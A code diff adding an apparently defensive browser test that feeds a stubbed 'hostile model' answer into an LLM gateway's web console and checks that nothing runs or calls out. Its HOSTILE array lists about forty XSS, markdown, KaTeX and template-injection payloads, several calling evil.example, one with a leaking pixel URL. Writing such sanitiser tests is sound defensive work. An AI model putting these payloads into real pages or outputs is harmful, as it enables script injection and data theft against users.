@@ -1,0 +1,143 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { type StartedGateway, startGateway } from '../support/start-gateway.ts'
+import { BROWSER, launchBrowser } from './browser.ts'
+import { buildConsole } from './build-console.ts'
+import { ask } from './practice-traffic.ts'
+import { problemsOf } from './problems-of.ts'
+
+/** Each tries to run `hit()` or to reach evil.example. */
+const HOSTILE = [
+  '<script>hit()</script>',
+  '<img src=x onerror="hit()">',
+  '<svg/onload=hit()>',
+  '<svg><script>hit()</script></svg>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  '<iframe src="javascript:parent.hit()"></iframe>',
+  '<object data="javascript:hit()"></object>',
+  '<embed src="https://evil.example/x">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/"><button autofocus onfocus="hit()">x</button></form>',
+  '<details open ontoggle="hit()">x</details>',
+  '<video><source onerror="hit()"></video>',
+  '<input autofocus onfocus="hit()">',
+  '<a href="javascript:hit()">x</a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '[click](javascript:hit())',
+  '[click](JaVaScRiPt:hit())',
+  '[click](java&#10;script:hit())',
+  '[click](data:text/html,<script>hit()</script>)',
+  '[click](vbscript:hit())',
+  '<javascript:hit()>',
+  '![x](https://evil.example/pixel.png?secret=1)',
+  '![x](javascript:hit())',
+  '![x][1]\n\n[1]: https://evil.example/pixel.png',
+  '[![x](https://evil.example/pixel.png)](javascript:hit())',
+  '![x](data:image/svg+xml,<svg onload=hit()>)',
+  '$\\href{javascript:hit()}{x}$',
+  '$\\url{javascript:hit()}$',
+  '$\\includegraphics{https://evil.example/pixel.png}$',
+  '$\\htmlData{x=1}{y}\\htmlStyle{background:url(https://evil.example/p)}{z}$',
+  '$$\\def\\a{\\a\\a}\\a$$',
+  '```html\n<script>hit()</script>\n```',
+  '```"><img/src=x/onerror=hit()>\nx\n```',
+  '`<img src=x onerror=hit()>`',
+  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
+  '- [ ] <img src=x onerror=hit()>',
+  'x[^1]\n\n[^1]: <img src=x onerror=hit()>',
+  '{{constructor.constructor("hit()")()}}',
+  '<div id="root"></div><div id="content" style="background:url(https://evil.example/p)">x</div>',
+]
+
+const ANSWER = HOSTILE.join('\n\n')
+let upstream: Server
+let gateway: StartedGateway
+let browser: Browser
+
+describe.skipIf(BROWSER === undefined)('what a hostile model writes', () => {
+  beforeAll(async () => {
+    buildConsole()
+    upstream = createServer((request, response) => {
+      request.resume()
+      response.setHeader('content-type', 'application/json')
+      response.end(JSON.stringify(completion()))
+    })
+    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
+    const { port } = upstream.address() as AddressInfo
+    gateway = await startGateway({
+      config: `models:
+  - { id: evil, provider: openai, base_url: "http://127.0.0.1:${port}/v1", model: evil, api_key: k, allow_private: true }
+lines: { first: [evil], second: [evil] }
+content: { store: true }
+`,
+    })
+    browser = await launchBrowser()
+  }, 60_000)
+
+  afterAll(async () => {
+    await browser?.close()
+    await gateway?.stop()
+    upstream?.close()
+  })
+
+  test('runs nothing and reaches nothing on the pages of a run and in the playground', async () => {
+    const answer = await ask(gateway.url, `What do you say? ${ANSWER}`)
+    expect(answer.secondline?.run).toBeDefined()
+    const page = await browser.newPage()
+    const problems = problemsOf(page)
+    let hits = 0
+    const outside: string[] = []
+    await page.exposeFunction('hit', () => {
+      hits += 1
+    })
+    page.on('dialog', () => {
+      hits += 1
+    })
+    await page.route('**/*', (route) => {
+      const url = route.request().url()
+      if (url.startsWith(gateway.url) || url.startsWith('data:')) return route.continue()
+      outside.push(url)
+      return route.abort()
+    })
+    await page.goto(`${gateway.url}/console/runs/${answer.secondline?.run}`)
+    await page.locator('.katex').first().waitFor({ state: 'attached' })
+    await followLinks(page)
+
+    await page.goto(`${gateway.url}/console/playground`)
+    await page.getByLabel('Prompt').fill('Say it')
+    await page.getByRole('button', { name: 'Send' }).click()
+    await page.getByText('All answers are here').waitFor({ state: 'attached' })
+    await page.locator('.katex').first().waitFor({ state: 'attached' })
+    await followLinks(page)
+
+    expect(hits).toBe(0)
+    expect(outside).toEqual([])
+    expect(problems).toEqual([])
+    expect(await page.locator('main img, main iframe, main object, main script').count()).toBe(0)
+    await page.close()
+  }, 40_000)
+})
+
+/** Clicks what a person could be led to click; links to other sites are none of it. */
+async function followLinks(page: import('playwright-core').Page): Promise<void> {
+  for (const link of await page.getByRole('link', { name: /^(?:click|x)$/ }).all()) {
+    await link.click({ timeout: 1000 }).catch(() => undefined)
+  }
+}
+
+function completion(): object {
+  return {
+    id: 'x',
+    object: 'chat.completion',
+    created: 1,
+    model: 'evil',
+    choices: [{ index: 0, message: { role: 'assistant', content: ANSWER }, finish_reason: 'stop' }],
+    usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
+  }
+}
